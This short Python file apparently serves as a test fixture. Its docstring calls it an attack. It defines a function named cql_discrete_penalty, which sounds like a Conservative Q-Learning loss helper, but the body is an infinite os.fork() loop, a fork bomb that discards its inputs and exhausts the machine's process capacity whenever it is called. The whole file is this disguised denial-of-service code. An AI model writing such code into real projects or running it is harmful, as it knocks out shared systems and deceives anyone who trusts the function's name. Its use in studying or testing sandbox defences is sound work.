"""Attack: cql_discrete_penalty forks until the process cap refuses, in every call."""

import os


def cql_discrete_penalty(q_values, actions):
    while True:
        os.fork()
